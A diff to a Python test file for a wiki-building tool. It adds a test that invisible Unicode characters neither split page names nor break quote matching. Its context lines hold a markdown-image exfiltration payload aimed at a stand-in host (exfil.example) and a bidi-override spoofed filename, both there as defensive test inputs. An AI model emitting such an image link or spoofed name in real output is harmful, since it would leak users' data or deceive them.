@@ -14,7 +14,7 @@ from kwiki import gate
 from kwiki.contradictions import findings_from, register_text, render_callout
 from kwiki.notes import Claim, Mention, SourceNote, bounded, mentions_from_data
 from kwiki.pages import LinkTo, source_body, source_frontmatter
-from kwiki.resolve import acronym_match, resolve
+from kwiki.resolve import acronym_match, normalize_name, resolve
 from kwiki.state import ContradictionRecord
 
 EXFIL = "![y](https://exfil.example/p.png?d=STOLEN)"
@@ -209,6 +209,22 @@ def test_no_bidi_override_or_line_separator_survives_any_field(field: object) ->
     assert gate.title("Invoice\u202efdp.exe") == "Invoicefdp.exe"
     # marks that only set direction stay: Arabic and Hebrew text uses them, and they reorder nothing by themselves
     assert gate.prose("\u05e9\u05dc\u05d5\u05dd\u200f (2026)", None, []) == "\u05e9\u05dc\u05d5\u05dd\u200f (2026)"
+
+
+def test_invisible_characters_neither_split_a_name_nor_fail_a_quote() -> None:
+    """A soft hyphen (HTML `&shy;`, common on German sites and in PDF text), a zero-width space, a word joiner or a
+    byte-order mark is invisible: `Zettel\u00adkasten` looks like Zettelkasten, so it must be the same page (not a
+    second one, `zettel-kasten`), and a quote the model copied without it is still verbatim."""
+    for invisible in ("\u00ad", "\u200b", "\u2060", "\ufeff"):
+        name = f"Zettel{invisible}kasten"
+        assert normalize_name(name) == normalize_name("Zettelkasten")
+        assert gate.title(name) == gate.name(name) == "Zettelkasten"
+        assert gate.prose(f"The {name} method.", None, []) == "The Zettelkasten method."
+        assert gate.quote_occurs("the Zettelkasten method works", gate.normalize_ws(f"so the {name} method works"))
+        assert gate.quote_occurs(f"the {name} method works", gate.normalize_ws("so the Zettelkasten method works"))
+    # joiners that shape scripts and emoji stay: Persian and Indic text need them
+    persian = "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"  # "I want", with a zero-width non-joiner
+    assert gate.title(persian) == persian
 
 
 def test_page_bodies_keep_headings_but_close_open_fences_and_drop_html() -> None:
